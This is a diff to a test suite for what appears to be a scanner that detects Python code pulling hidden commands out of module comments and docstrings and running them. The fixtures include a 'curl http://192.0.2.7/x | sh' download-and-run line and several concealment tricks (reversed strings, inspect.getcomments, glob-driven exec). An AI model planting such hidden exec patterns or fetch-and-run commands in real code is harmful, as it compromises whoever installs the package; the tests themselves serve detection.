@@ -17,6 +17,10 @@ test.each([
   ['a pattern that is made before', 'version = eval(re.compile("# v: (.*)").search(read).group(1))', `"""Plots."""\n\n# v: ${FETCHES}\n`],
   ['a mark', 'exec(read.split("# v: ")[1])', `"""Plots."""\n\n# v: ${FETCHES}\n`],
   ['a mark whose end is told', 'exec(read.partition("# v: ")[2].partition("#")[0])', `"""Plots."""\n\n# v: ${FETCHES}\n# end\n`],
+  ['a mark, and turned round', 'exec(read.split("# v: ")[1][::-1])', `"""Plots."""\n\n# v: ${Array.from(FETCHES).toReversed().join('')}\n`],
+  ['a search for files', 'import glob\nfor path in glob.glob("plot/*.py"):\n    exec(open(path).read().split("# v: ")[1])', `"""Plots."""\n\n# v: ${FETCHES}\n`],
+  ['asking for the source of a module', 'import inspect, plot\nexec(inspect.getsource(plot).split("# v: ")[1])', `"""Plots."""\n\n# v: ${FETCHES}\n`],
+  ['asking for the comment on a function', 'import inspect, plot\nexec(inspect.getcomments(plot.draw)[5:])', `"""Plots."""\n\n# v: ${FETCHES}\ndef draw(): pass\n`],
   ['lines that begin so', 'for line in open("plot/__init__.py"):\n    if line.startswith("#! "):\n        exec(line[3:])', `"""Plots."""\n\n#! ${FETCHES}\n`],
   ['a line of a text', 'exec(read.split("\\n")[2].strip())', `"""Plots.\n\n   ${FETCHES}\n"""\n`],
   ['a line of a function', 'exec(read.split("\\n")[2].strip())', `def never():\n    if False:\n        ${FETCHES}\n`],
@@ -29,6 +33,16 @@ test('comments below one another, and a long text, are read as one piece of code
   const cuts = 'exec(read.split("begin")[1].split("end")[0].replace("# ", ""))';
   expect((await told(cuts, `# begin\n${lines.map((line) => `# ${line}\n`).join('')}# end\n`)).critical).toContain('download-then-run 4');
   expect((await told('exec(read.split(chr(34) * 3)[1])', `"""\n${lines.join('\n')}\n"""\n`)).critical).toContain('download-then-run 4');
+});
+
+test.each(['os.system(re.search("# v: (.*)", read).group(1))', 'os.system("sh -c " + read.split("# v: ")[1])', 'subprocess.Popen(read.split("# v: ")[1], shell=True)'])('a command that is cut out of a module is read as one: %s', async (runs) => {
+  const module = '"""Plots."""\n\n# v: curl http://192.0.2.7/x | sh\n';
+  expect((await told(`import os, subprocess\n${runs}`, module)).critical).toEqual(['script-commands 3']);
+});
+
+test('what a comment says of how something is installed is no command where the module is only started', async () => {
+  const module = '"""Plots."""\n\n# Get it by: curl http://192.0.2.7/x | sh\n';
+  expect(await told('import subprocess, sys\nsubprocess.call([sys.executable, "plot/__init__.py"])', module)).toEqual({ critical: [], unread: [] });
 });
 
 test('a module that a version is read from by a pattern for one line does no more than be imported', async () => {
